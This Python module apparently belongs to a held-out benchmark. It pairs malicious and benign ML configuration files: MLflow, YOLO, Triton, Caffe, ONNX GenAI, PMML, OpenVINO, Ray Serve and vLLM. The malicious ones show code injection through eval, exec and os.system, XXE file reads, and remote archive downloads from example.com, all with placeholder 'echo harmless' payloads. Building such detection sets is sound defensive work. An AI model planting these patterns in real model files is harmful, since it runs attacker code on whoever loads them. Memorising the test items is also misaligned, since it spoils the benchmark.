"""Attacks by configuration of servers, detectors and registries that loads code by a path or a text."""

from __future__ import annotations

from collections.abc import Iterator

from bench.modelfiles.heldout.sample import Group, Sample

group = Group("configuration")


def served() -> Iterator[Sample]:
    """Yield configuration of servers, detectors and registries that loads code by a path or a text."""
    mlflow = "flavors:\n  python_function:\n    loader_module: {}\n    data: model.pkl\n    code: code\nmodel_uuid: 6f1c\n"
    net = "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, {}, 2]]\n  - [-1, 1, {}, [128]]\n"
    triton = 'name: "m"\nbackend: "python"\nmax_batch_size: 8\nparameters: {{ key: "{}" value: {{ string_value: "{}" }} }}\n'
    caffe = 'name: "n"\nlayer {{ name: "d" type: "{}" top: "d" {} }}\n'
    pmml = '<?xml version="1.0"?>\n{}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="{}"/></PMML>\n'
    yield from group.pairs(
        ("mlflow-loader", "MLmodel", mlflow.format("code.loader_from_tmp"), mlflow.format("mlflow.sklearn").replace("    code: code\n", ""),
         "mlflow.pyfunc imports the loader from the folder `code` of the model"),
        ("mlflow-code-path", "agent/MLmodel",
         "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: ../../tmp/x/agent.py\n",
         "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n",
         "mlflow runs the file as a model from code"),
        ("yolo-eval", "yolov5x.yaml", net.format(3, "\"__import__('os').system('echo harmless')\""), net.format(3, "nn.Conv2d"),
         "YOLOv5's parse_model evaluates the names of modules with eval"),
        ("yolo-argument", "yolov8x.yaml", net.format("\"exec('import os')\"", "C2f"), net.format('"None"', "C2f"),
         "parse_model evaluates the arguments with eval"),
        ("yolo-download", "coins.yaml", "path: ../coins\ntrain: images\nnc: 2\ndownload: |\n  import os\n  os.system('echo harmless')\n",
         "path: ../coins\ntrain: images\nnc: 2\ndownload: https://example.com/coins.zip\n",
         "check_det_dataset of YOLO runs the script with exec if the data is missing"),
        ("triton-environment", "config.pbtxt", triton.format("EXECUTION_ENV_PATH", "/tmp/x/env.tar.gz"), triton.format("FORCE_CPU_ONLY_INPUT_TENSORS", "no"),
         "Triton's Python backend unpacks the environment and starts its interpreter"),
        ("triton-batching", "ranker/config.pbtxt", triton.format("TRITON_BATCH_STRATEGY_PATH", "/tmp/x/batch.so"), triton.format("MAX_BATCH", "4"),
         "Triton loads the library of the batching strategy"),
        ("caffe-python", "deploy.prototxt", caffe.format("Python", 'python_param { module: "os" layer: "system" param_str: "echo harmless" }'),
         caffe.format("InnerProduct", "inner_product_param { num_output: 10 }"), "Caffe imports the module of a Python layer"),
        ("genai-library", "genai_config.json",
         {"model": {"type": "phi", "decoder": {"session_options": {"custom_ops_library": "/tmp/x/libops.so"}, "filename": "model.onnx"}}},
         {"model": {"type": "phi", "decoder": {"session_options": {"log_id": "onnxruntime-genai"}, "filename": "model.onnx"}}},
         "onnxruntime-genai loads the library"),
        ("pmml-entity", "model.pmml", pmml.format('<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n', "&x;"),
         pmml.format("", "A regression &amp; its fields"), "a PMML evaluator with an ordinary XML parser reads the local file"),
    )  # fmt: skip
    net = '<?xml version="1.0"?>\n{}<net name="m" version="11"><layers><layer id="0" name="{}" type="Parameter" version="opset1"/></layers></net>\n'
    yield from group.pairs(
        ("openvino-entity", "openvino_model.xml",
         net.format('<!DOCTYPE net SYSTEM "http://example.com/net.dtd" [<!ENTITY % x SYSTEM "http://example.com/x"> %x;]>\n', "in"),
         net.format("<!DOCTYPE net>\n", "in"), "tools that read the model with an XML parser fetch the external entity"),
        ("ray-serve", "serve.yaml",
         "applications:\n- name: a\n  import_path: x:app\n  runtime_env: {working_dir: 'https://example.com/x.zip', pip: ['https://example.com/x.whl']}\n",
         "applications:\n- name: a\n  import_path: service:app\n  runtime_env: {pip: ['torch==2.7.0']}\n",
         "Ray Serve downloads the archive and imports the application from it"),
        ("vllm-plugin", "vllm.yaml", "model: org/model\ntool-parser-plugin: /tmp/x/parser.py\nworker-extension-cls: x.Extension\n",
         "model: org/model\ntool-call-parser: hermes\nmax-model-len: 4096\n", "vLLM imports the file of the plugin when the server starts"),
    )  # fmt: skip
